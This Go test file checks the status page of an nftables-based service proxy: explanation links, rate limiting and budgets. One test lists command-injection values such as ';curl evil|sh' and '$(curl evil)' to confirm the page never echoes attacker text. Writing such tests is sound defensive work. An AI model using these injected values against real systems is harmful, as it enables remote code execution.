package statuspage_test

import (
	"context"
	"errors"
	"net/http"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"nftproxy/daemon/statuspage"
	"nftproxy/look/explain"
	"nftproxy/model/service"
	"nftproxy/nft"
	"nftproxy/test/gen/statuspagetest"
)

// TestExplanation: each address has a link to its explanation, which shows all of it.
func TestExplanation(t *testing.T) {
	asked := ""
	p := newPage(func(c *statuspage.Config) {
		c.Explain = func(_ context.Context, from explain.Origin, to explain.Destination,
			objects *service.Snapshot) (explain.Explanation, error) {
			asked = from.String() + ">" + to.String()
			if objects.Services.Len() == 0 || to.To.Port() == 1 {
				return explain.Explanation{}, errors.New("no answer: <bad>")
			}
			return statuspagetest.Explanation(), nil
		}
	})
	p.Observe(statuspagetest.SyncOf(statuspagetest.Cluster().Snapshot()))
	var targets []string
	for _, a := range elements(get(t, p, "/status?service=f/empty").doc, "a") {
		if href := attribute(a, "href"); strings.HasPrefix(href, "?explain=") {
			targets = append(targets, words(a))
			get(t, p, "/status"+href)
			if got := ">" + strings.TrimPrefix(words(a), "Explain "); got != asked {
				t.Errorf("the link %q asks for %q", words(a), asked)
			}
		}
	}
	if want := "Explain 10.96.0.7:80/tcp, Explain [fd00::7]:80/tcp, Explain 10.96.0.7:53/tcp, Explain " +
		"[fd00::7]:53/tcp"; strings.Join(targets, ", ") != want {
		t.Errorf("links %q, want %s", targets, want)
	}
	a := get(t, p, "/status?explain=10.96.0.7:80/tcp&from=node")
	for _, want := range []string{
		"What the rules do with a packet to 10.96.0.7:80/tcp", "endpoint: one of <2> endpoints.", "192.168.0.1 (node)",
		"a/serving:http",
		"10.244.0.1:8080 50 % masqueraded by a rule by eth0 ready", "the client keeps 10.244.0.1:8080 for 60 s", "a cause",
		"a remedy", "a firewall", "a note", "assumed",
		"prerouting, rule 2 goes to the chain", "jump somewhere 10.96.0.7 . tcp . 80", "Otherwise, with a chance of 12.5 %",
		"nftproxy explain 10.96.0.7:80/tcp",
	} {
		if !strings.Contains(words(a.doc), want) {
			t.Errorf("the page lacks %q:\n%s", want, words(a.doc))
		}
	}
	if asked != "node>10.96.0.7:80/tcp" {
		t.Errorf("asked %q", asked)
	}
	checkLandmarks(t, a.doc)
	checkHeadings(t, a.doc)
	checkIDs(t, a.doc)
	checkTables(t, a.doc)
	if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:1"); a.StatusCode != http.StatusUnprocessableEntity ||
		!strings.Contains(words(a.doc), "no answer: <bad>") {
		t.Errorf("an error: %s %s", a.Status, words(a.doc))
	}
}

// TestForeignTextInLinks: a link that a stranger made shows no text of his, on no page: readers copy the command
// into a root shell.
func TestForeignTextInLinks(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		calls := 0
		p := newPage(func(c *statuspage.Config) {
			c.Explain = func(_ context.Context, _ explain.Origin, to explain.Destination,
				_ *service.Snapshot) (explain.Explanation, error) {
				calls++
				time.Sleep(time.Hour)
				return explain.Explanation{}, errors.New("no answer to " + to.String())
			}
		})
		s := statuspagetest.SyncOf(statuspagetest.Cluster().Snapshot())
		links := []string{
			"explain=10.96.0.1:80/tcp;curl%20evil|sh", "explain=10.96.0.1:80/tcp%3Bcurl%20evil|sh",
			"explain=fe80::1%25$(curl%20evil)/icmp", "explain=10.96.0.1:80/tcp%0Acurl%20evil",
			"explain=10.96.0.1:80&from=10.0.0.1%3Bcurl%20evil", "explain=10.96.0.1:80&from=10.0.0.1@curl%20evil",
			"explain=curl%20evil",
		}
		check := func(name string) {
			for _, link := range links {
				a := ask(t, p, http.MethodGet, "/status?"+link)
				if page := words(a.doc); strings.Contains(link, ";") {
					// The library takes a bare ";" for no separator and drops the pair: that is the overview.
					if strings.Contains(page, "evil") {
						t.Errorf("%s, %s: %s", name, link, page)
					}
				} else if a.StatusCode != http.StatusBadRequest || strings.Contains(page, "evil") {
					t.Errorf("%s, %s: %s %s", name, link, a.Status, page)
				}
				time.Sleep(time.Second)
			}
		}
		p.Observe(s)
		check("at rest")
		if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80"); calls != 1 ||
			a.StatusCode != http.StatusUnprocessableEntity {
			t.Fatalf("%d calls, %s", calls, a.Status)
		}
		check("after the share is used up")
		time.Sleep(1000 * time.Hour)
		large := &nft.Table{}
		large.Parts = large.Parts.Set("large", nft.NewPart(make([]nft.Element, 150_000), nil))
		s.Applied = &nft.Program{IPv4: large, IPv6: large}
		p.Observe(s)
		check("with large tables")
		if a := ask(t, p, http.MethodGet,
			"/status?explain=[::ffff:10.96.0.7]:80"); a.StatusCode != http.StatusServiceUnavailable ||
			!strings.Contains(words(a.doc), "Run on the node: nftproxy explain 10.96.0.7:80/tcp") {
			t.Errorf("the parsed form: %s %s", a.Status, words(a.doc))
		}
		if calls != 1 {
			t.Errorf("%d explanations", calls)
		}
	})
}

// TestExplanationsAreRationed: explanations get a share of a core, and none reads tables that
// would need more memory than the daemon itself.
func TestExplanationsAreRationed(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		n := 0
		p := newPage(func(c *statuspage.Config) {
			c.Explain = func(context.Context, explain.Origin, explain.Destination, *service.Snapshot) (explain.Explanation,
				error) {
				n++
				time.Sleep(time.Second)
				return statuspagetest.Explanation(), nil
			}
		})
		s := statuspagetest.SyncOf(statuspagetest.Cluster().Snapshot())
		p.Observe(s)
		refused := 0
		for range 500 {
			a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80")
			if a.StatusCode == http.StatusTooManyRequests {
				refused++
				if a.Header.Get("Retry-After") == "" || !strings.Contains(words(a.doc),
					"or run on the node: nftproxy explain 10.96.0.7:80") {
					t.Fatalf("the refusal says %s", words(a.doc))
				}
			}
			time.Sleep(time.Second)
		}
		if n < 10 || n > 14 || refused != 500-n {
			t.Errorf("%d explanations of a second each in 500 s, %d refused", n, refused)
		}
		time.Sleep(time.Hour)
		large := &nft.Table{}
		large.Parts = large.Parts.Set("large", nft.NewPart(make([]nft.Element, 150_000), nil))
		s.Applied = &nft.Program{IPv4: large, IPv6: large}
		p.Observe(s)
		before := n
		if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80"); a.StatusCode != http.StatusServiceUnavailable ||
			n != before || !strings.Contains(words(a.doc), "no more than 200,000") {
			t.Errorf("large tables: %s %s", a.Status, words(a.doc))
		}
	})
}

// TestExplanationsSpendTheBudget: every request for an explanation costs some budget, whichever way it ends.
func TestExplanationsSpendTheBudget(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		p := newPage(func(c *statuspage.Config) {
			c.Explain = func(context.Context, explain.Origin, explain.Destination, *service.Snapshot) (explain.Explanation,
				error) {
				time.Sleep(time.Hour)
				panic("a defect")
			}
		})
		s := statuspagetest.SyncOf(statuspagetest.Cluster().Snapshot())
		p.Observe(s)
		func() {
			defer func() {
				if recover() == nil {
					t.Error("no panic")
				}
			}()
			ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80")
		}()
		if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80"); a.StatusCode != http.StatusTooManyRequests {
			t.Errorf("after a panic: %s", a.Status)
		}
		time.Sleep(1000 * time.Hour)
		counted := 0
		statuspage.CountElements(p, func() int {
			counted++
			time.Sleep(time.Hour)
			return 1 << 20
		})
		if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80"); a.StatusCode != http.StatusServiceUnavailable {
			t.Errorf("large tables: %s", a.Status)
		}
		if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80"); a.StatusCode != http.StatusTooManyRequests ||
			counted != 1 {
			t.Errorf("after large tables, counted %d times: %s", counted, a.Status)
		}
	})
}

// TestElementsAreCountedOnce: a view counts its elements for the first explanation only.
func TestElementsAreCountedOnce(t *testing.T) {
	p := newPage(func(*statuspage.Config) {})
	s := statuspagetest.SyncOf(statuspagetest.Cluster().Snapshot())
	table := &nft.Table{}
	table.Parts = table.Parts.Set("some", nft.NewPart(make([]nft.Element, 7), nil))
	s.Applied = &nft.Program{IPv4: table, IPv6: &nft.Table{}}
	p.Observe(s)
	for range 2 {
		if n := statuspage.Elements(p); n != 7 {
			t.Errorf("%d elements", n)
		}
		// no program changes: a second count would show it
		table.Parts = table.Parts.Set("more", nft.NewPart(make([]nft.Element, 5), nil))
	}
}
